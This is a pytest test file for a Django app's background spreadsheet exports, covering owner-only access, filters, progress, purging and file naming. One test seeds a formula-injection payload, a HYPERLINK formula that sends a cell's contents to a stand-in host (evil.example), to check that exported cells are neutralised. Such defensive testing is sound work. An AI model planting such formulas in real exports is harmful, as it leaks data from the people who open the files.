"""Background exports: the file holds the owner's scope and filters only, with neutralised
cells; progress is stored while it runs; only the owner sees or downloads it (404 for anyone
else, page and API); old exports are purged with their files."""

import datetime as dt
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from config.errors import DomainError
from investors.models import Investor
from staff.models import ExportJob, ExportStatus
from staff.services import export_job_create, export_job_run, export_jobs_purge
from tests.factories import InvestorFactory, ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db


def _rows(job) -> list[list]:
    job.refresh_from_db()
    with job.file.open("rb") as fh:
        ws = load_workbook(BytesIO(fh.read()), read_only=True).active
        return [list(r) for r in ws.iter_rows(values_only=True)]


def _export(user, kind="projects", query="", language="en", capture=None):
    with capture(execute=True):
        job = export_job_create(user=user, kind=kind, query=query, language=language)
    job.refresh_from_db()
    return job


@pytest.fixture
def two_regions(region_a, region_b):
    a = ProjectFactory(region=region_a, name_zh_hans="甲项目", name_en="Alpha works")
    b = ProjectFactory(region=region_b, name_zh_hans="乙项目", name_en="Beta works")
    return a, b


def test_export_holds_the_owners_scope_only(
    district_user, two_regions, django_capture_on_commit_callbacks
):
    a, _b = two_regions
    job = _export(district_user, capture=django_capture_on_commit_callbacks)
    assert job.status == ExportStatus.DONE
    assert (job.rows_total, job.rows_done, job.progress) == (1, 1, 100)
    rows = _rows(job)
    assert rows[0][:2] == ("ID", "Name") or rows[0][:2] == ["ID", "Name"]
    assert [r[0] for r in rows[1:]] == [a.pk]
    assert job.file.name == f"exports/{job.token.hex}.xlsx"


def test_export_applies_the_list_filters_and_language(
    bureau_user, two_regions, django_capture_on_commit_callbacks
):
    _a, b = two_regions
    job = _export(
        bureau_user, query="q=%E4%B9%99&page=3", language="zh-hans",
        capture=django_capture_on_commit_callbacks,
    )  # fmt: skip
    rows = _rows(job)
    assert rows[0][1] == "名称"
    assert [(r[0], r[1]) for r in rows[1:]] == [(b.pk, "乙项目")]


def test_export_cells_are_neutralised(bureau_user, region_a, django_capture_on_commit_callbacks):
    ProjectFactory(
        region=region_a,
        name_zh_hans='=HYPERLINK("http://evil.example/?x="&B2,"Click")',
        name_en="@SUM(1+1)",
    )
    zh = _rows(_export(bureau_user, language="zh-hans", capture=django_capture_on_commit_callbacks))
    en = _rows(_export(bureau_user, language="en", capture=django_capture_on_commit_callbacks))
    assert zh[1][1] == '\'=HYPERLINK("http://evil.example/?x="&B2,"Click")'
    assert en[1][1] == "'@SUM(1+1)"


def test_investor_export_job(district_user, region_b, django_capture_on_commit_callbacks):
    InvestorFactory(name_zh_hans="丰源", name_en="Fengyuan", notes="-2+3", owner_region=region_b)
    InvestorFactory(name_zh_hans="北辰", name_en="Beichen")
    job = _export(
        district_user, kind="investors", query="q=Fengyuan",
        capture=django_capture_on_commit_callbacks,
    )  # fmt: skip
    rows = _rows(job)
    assert job.rows_total == 1
    assert [r[2] for r in rows[1:]] == ["Fengyuan"]
    assert rows[1][12] == "'-2+3"
    assert Investor.objects.count() == 2


def test_progress_is_stored_while_the_rows_are_written(bureau_user, region_a, monkeypatch):
    import projects.exports

    monkeypatch.setattr(projects.exports, "PROGRESS_EVERY", 2)
    ProjectFactory.create_batch(5, region=region_a)
    job = ExportJob.objects.create(owner=bureau_user, kind="projects", language="en")
    assert (job.status, job.progress) == (ExportStatus.QUEUED, 0)
    job.rows_total, job.rows_done = 5, 2
    assert job.progress == 40
    with CaptureQueriesContext(connection) as ctx:
        assert export_job_run(job.pk) == "5 rows"
    updates = [q["sql"] for q in ctx.captured_queries if q["sql"].startswith("UPDATE")]
    assert any('"rows_total" = 5' in u for u in updates)
    assert any('"rows_done" = 2' in u for u in updates)
    assert any('"rows_done" = 4' in u for u in updates)
    job.refresh_from_db()
    assert (job.status, job.rows_done, job.progress) == (ExportStatus.DONE, 5, 100)
    # A redelivered task leaves a finished export as it is.
    assert export_job_run(job.pk) == "already done"


def test_refused_requests_write_nothing(bureau_user):
    with pytest.raises(DomainError) as e:
        export_job_create(user=bureau_user, kind="stats")
    assert e.value.field == "kind"
    with pytest.raises(DomainError) as e:
        export_job_create(user=bureau_user, kind="projects", query="stage=nowhere")
    assert e.value.field == "query"
    ExportJob.objects.bulk_create(
        ExportJob(owner=bureau_user, kind="projects", language="en") for _ in range(3)
    )
    with pytest.raises(DomainError):
        export_job_create(user=bureau_user, kind="projects")
    assert ExportJob.objects.count() == 3


def test_pages_show_and_serve_the_owners_export_only(
    client, bureau_user, district_user, two_regions, django_capture_on_commit_callbacks
):
    client.force_login(district_user)
    with django_capture_on_commit_callbacks(execute=True):
        resp = client.post(
            reverse("staff:export_create"), {"kind": "projects", "query": "stage=intent"}
        )
    job = ExportJob.objects.get()
    assert resp.status_code == 302
    assert resp.url == reverse("staff:export_detail", args=[job.pk])
    page = client.get(resp.url)
    assert page.status_code == 200
    assert reverse("staff:export_download", args=[job.pk]) in page.content.decode()
    download = client.get(reverse("staff:export_download", args=[job.pk]))
    assert download.status_code == 200
    assert "attachment" in download["Content-Disposition"]
    assert download["Cache-Control"] == "no-store" or "no-store" in download["Cache-Control"]
    assert client.get(reverse("staff:exports")).status_code == 200

    client.force_login(bureau_user)  # anyone else, even the bureau: 404
    assert client.get(reverse("staff:export_detail", args=[job.pk])).status_code == 404
    assert client.get(reverse("staff:export_download", args=[job.pk])).status_code == 404
    listed = client.get(reverse("staff:exports")).content.decode()
    assert reverse("staff:export_detail", args=[job.pk]) not in listed


def test_unfinished_export_has_no_download(client, bureau_user):
    job = ExportJob.objects.create(owner=bureau_user, kind="projects", language="en")
    client.force_login(bureau_user)
    assert client.get(reverse("staff:export_download", args=[job.pk])).status_code == 404


def test_bad_export_request_on_the_page_is_a_message(client, bureau_user):
    client.force_login(bureau_user)
    resp = client.post(reverse("staff:export_create"), {"kind": "nothing"}, follow=True)
    assert resp.status_code == 200
    assert ExportJob.objects.count() == 0


def test_api_export(
    api_as, bureau_user, district_user, two_regions, django_capture_on_commit_callbacks
):
    api = api_as(district_user)
    with django_capture_on_commit_callbacks(execute=True):
        resp = api.post("/api/v1/exports/", {"kind": "projects", "query": ""}, format="json")
    assert resp.status_code == 202, resp.content
    job_id = resp.json()["id"]
    detail = api.get(f"/api/v1/exports/{job_id}/").json()
    assert detail["status"] == "done"
    assert detail["rows_total"] == 1
    assert detail["download_url"] == f"/api/v1/exports/{job_id}/download/"
    assert api.get(detail["download_url"]).status_code == 200
    unknown = api.post("/api/v1/exports/", {"kind": "projects", "x": 1}, format="json")
    assert unknown.status_code == 400
    assert list(unknown.json()) == ["x"]
    bad = api.post("/api/v1/exports/", {"kind": "projects", "query": "stage=x"}, format="json")
    assert bad.status_code == 400
    assert "query" in bad.json()

    other = api_as(bureau_user)
    assert other.get(f"/api/v1/exports/{job_id}/").status_code == 404
    assert other.get(f"/api/v1/exports/{job_id}/download/").status_code == 404
    assert other.get("/api/v1/exports/").json()["count"] == 0


def test_old_exports_are_purged_with_their_files(
    bureau_user, region_a, django_capture_on_commit_callbacks
):
    ProjectFactory(region=region_a)
    old = _export(bureau_user, capture=django_capture_on_commit_callbacks)
    new = _export(bureau_user, capture=django_capture_on_commit_callbacks)
    ExportJob.objects.filter(pk=old.pk).update(created_at=timezone.now() - dt.timedelta(hours=25))
    storage, name = old.file.storage, old.file.name
    assert storage.exists(name)
    assert export_jobs_purge() == 1
    assert not storage.exists(name)
    assert list(ExportJob.objects.all()) == [new]


def test_direct_download_of_a_long_list_goes_to_the_background_export(
    client, bureau_user, region_a, settings
):
    settings.EXPORT_DIRECT_MAX_ROWS = 2
    ProjectFactory.create_batch(3, region=region_a)
    client.force_login(bureau_user)
    resp = client.get(reverse("projects:export") + "?stage=intent")
    assert resp.status_code == 302
    assert resp.url == reverse("projects:list") + "?stage=intent"
    settings.EXPORT_DIRECT_MAX_ROWS = 3
    assert client.get(reverse("projects:export")).status_code == 200


def test_inactive_owner_gets_nothing(region_a):
    user = UserFactory(is_active=False)
    ProjectFactory(region=region_a)
    job = ExportJob.objects.create(owner=user, kind="projects", language="en")
    assert export_job_run(job.pk) == "owner inactive"
    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED
    assert not job.file


def test_file_name_carries_shanghai_time_not_utc(bureau_user):
    """Created at 20:30 UTC on 29 February 2028: the reader's clock says 1 March, 04:30."""
    import datetime as dt

    import time_machine

    with time_machine.travel(dt.datetime(2028, 2, 29, 20, 30, tzinfo=dt.UTC), tick=False):
        job = ExportJob.objects.create(owner=bureau_user, kind="projects", language="en")
    assert job.filename == "projects-20280301-0430.xlsx"
